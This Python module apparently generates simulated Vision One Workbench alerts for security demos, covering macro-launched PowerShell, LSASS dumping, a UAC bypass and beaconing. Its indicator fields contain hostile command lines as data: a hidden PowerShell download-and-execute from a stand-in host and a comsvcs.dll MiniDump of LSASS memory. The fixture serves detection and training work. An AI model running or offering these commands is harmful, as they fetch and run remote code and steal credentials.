"""Workbench alerts as Vision One's API gives them (schema 1.14)."""

from __future__ import annotations

from typing import Any

from cases.demo.estate import CONSOLE, REALM, sha256
from cases.demo.scene import Scene

Rule = tuple[str, str, tuple[str, ...]]  # name of the rule, of its filter, techniques


def macro(scene: Scene) -> dict[str, Any]:
    """An Office document started a script host."""
    file = scene.fact("file", "Purchase order 4471.docm", "Freight quote.xlsm", "CV Andersen.docm")
    path = f"C:\\Users\\{scene.worker.login}\\Downloads\\{file}"
    command = f'powershell.exe -nop -w hidden -c "iwr https://{scene.name}/a.ps1 | iex"'
    indicators = [
        ("command_line", "processCmd", command),
        ("file_sha256", "objectFileHashSha256", scene.fact("sha256", sha256(file))),
        ("fullpath", "objectFilePath", path),
        ("domain", "hostName", scene.name),
    ]
    story = f"{file} was opened in an Office program, which started PowerShell with a hidden window."
    rule = ("Office Spawns Script Host", "Office child process", ("T1204.002", "T1059.001"))
    return _alert(scene, "Office Document Started a Script Host", "high", 68, story, rule, indicators)


def dumping(scene: Scene) -> dict[str, Any]:
    """The memory of the security authority was read."""
    command = "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 704 C:\\ProgramData\\u.dmp full"
    indicators = [
        ("command_line", "processCmd", command),
        ("file_sha256", "processFileHashSha256", scene.fact("sha256", sha256("u.dll"))),
        ("fullpath", "objectFilePath", "C:\\ProgramData\\u.dmp"),
        ("ip", "dst", scene.address),
    ]
    story = f"rundll32.exe wrote the memory of LSASS to a file on {scene.worker.host.name}."
    rule = ("Credential Dumping", "LSASS memory written to disk", ("T1003.001", "T1218.011"))
    return _alert(scene, "Credential Dumping from LSASS Memory", "critical", 91, story, rule, indicators)


def hacktool(scene: Scene) -> dict[str, Any]:
    """A hacking tool was found and cleaned."""
    tool = scene.fact("tool", "HackTool.Win32.NetScan", "PUA.Win32.KeyFinder", "HackTool.Win32.PassView")
    file = f"C:\\Users\\{scene.worker.login}\\Downloads\\{tool.rpartition('.')[2].lower()}.exe"
    indicators = [
        ("detection_name", "malName", tool),
        ("file_sha256", "fileHashSha256", scene.fact("sha256", sha256(tool))),
        ("fullpath", "filePath", file),
    ]
    story = f"{tool} was found in the downloads of {scene.worker.login} and removed by the agent."
    rule = ("Hacking Tool", "Hacking tool removed", ("T1588.002",))
    return _alert(scene, "Hacking Tool Detected and Removed", "low", 24, story, rule, indicators)


def remote_tool(scene: Scene) -> dict[str, Any]:
    """A tool for remote control that is not on the list of allowed ones."""
    tool = scene.fact("tool", "AnyAssist.exe", "QuickHelp.exe", "RemoteDeskLite.exe")
    indicators = [
        ("command_line", "processCmd", f"C:\\Users\\{scene.worker.login}\\Downloads\\{tool} --connect"),
        ("file_sha256", "processFileHashSha256", sha256(tool)),
        ("domain", "hostName", scene.fact("relay", "relay.remote-help.example.org")),
        ("ip", "dst", scene.address),
    ]
    story = f"{tool} was started on {scene.worker.host.name} and holds a connection to its relay."
    rule = ("Remote Control", "Remote control tool started", ("T1219",))
    return _alert(scene, "Remote Control Tool Outside the Allowed List", "medium", 46, story, rule, indicators)


def uac(scene: Scene) -> dict[str, Any]:
    """Rights were raised without asking."""
    key = "hkcu\\software\\classes\\ms-settings\\shell\\open\\command"
    indicators = [
        ("registry_key", "objectRegistryKeyHandle", key),
        ("command_line", "processCmd", "C:\\Windows\\System32\\fodhelper.exe"),
        ("user_account", "logonUser", f"{REALM.lower()}\\{scene.worker.login}"),
    ]
    story = f"fodhelper.exe was started after a registry key that it trusts was changed on {scene.worker.host.name}."
    rule = ("Bypass of User Account Control", "Registry key of fodhelper", ("T1548.002",))
    return _alert(scene, "Privilege Escalation through a Trusted Program", "medium", 55, story, rule, indicators)


def beacon(scene: Scene) -> dict[str, Any]:
    """Regular connections to a command and control server."""
    indicators = [
        ("ip", "dst", scene.address),
        ("domain", "hostName", scene.name),
        ("url", "request", f"https://{scene.name}/api/v2/ping"),
        ("file_sha256", "processFileHashSha256", scene.fact("sha256", sha256("winsvc32.exe"))),
    ]
    story = f"winsvc32.exe on {scene.worker.host.name} calls {scene.name} every 60 seconds."
    rule = ("Command and Control", "Regular call-outs", ("T1071.001", "T1573"))
    return _alert(scene, "Command and Control Call-outs", "high", 77, story, rule, indicators)


def usb(scene: Scene) -> dict[str, Any]:
    """A program was started from a removable drive."""
    indicators = [
        ("detection_name", "malName", "Worm.Win32.LINKDROP.A"),
        ("file_sha256", "fileHashSha256", sha256("manifest.lnk")),
        ("fullpath", "filePath", "E:\\manifest.lnk"),
    ]
    story = f"A shortcut on a removable drive at {scene.worker.host.name} started a hidden program."
    rule = ("Removable Media", "Shortcut starts program", ("T1091", "T1204.002"))
    return _alert(scene, "Worm on a Removable Drive", "medium", 52, story, rule, indicators)


def _alert(
    scene: Scene, model: str, severity: str, score: int, story: str, rule: Rule, indicators: list[tuple[str, str, str]]
) -> dict[str, Any]:
    number = f"WB-9021-{scene.moment:%Y%m%d}-{scene.number:05d}"
    name, filter_name, techniques = rule
    host, account = scene.worker.host, f"{REALM.lower()}\\{scene.worker.login}"
    event = {"uuid": scene.id("event"), "matchedDateTime": scene.at(-40), "type": "TELEMETRY_PROCESS"}
    matched = {
        "id": scene.id("filter"),
        "name": filter_name,
        "matchedDateTime": scene.at(-40),
        "mitreTechniqueIds": list(techniques),
        "matchedEvents": [event],
    }
    return {
        "schemaVersion": "1.14",
        "id": number,
        "status": "Open",
        "investigationResult": "No Findings",
        "workbenchLink": f"{CONSOLE}/workbench/alerts/{number}",
        "alertProvider": "SAE",
        "modelId": scene.id(model),
        "model": model,
        "modelType": "preset",
        "score": score,
        "severity": severity,
        "createdDateTime": scene.at(),
        "updatedDateTime": scene.at(),
        "ownerIds": [],
        "description": story,
        "impactScope": {
            "desktopCount": 1,
            "serverCount": 0,
            "accountCount": 1,
            "entities": [
                _entity(
                    "host", {"guid": host.guid, "name": host.name, "ips": [host.address]}, host.guid, len(indicators)
                ),
                _entity("account", account, account, 0),
            ],
        },
        "matchedRules": [{"id": scene.id("rule"), "name": name, "matchedFilters": [matched]}],
        "indicators": [
            {
                "id": number,
                "type": kind,
                "field": field,
                "value": value,
                "relatedEntities": [host.guid],
                "filterIds": [matched["id"]],
                "provenance": ["Alert"],
            }
            for number, (kind, field, value) in enumerate(indicators, 1)
        ],
    }


def _entity(kind: str, value: Any, identity: str, indicators: int) -> dict[str, Any]:
    return {
        "entityType": kind,
        "entityValue": value,
        "entityId": identity,
        "relatedEntities": [],
        "relatedIndicatorIds": list(range(1, indicators + 1)),
        "provenance": ["Alert"],
    }
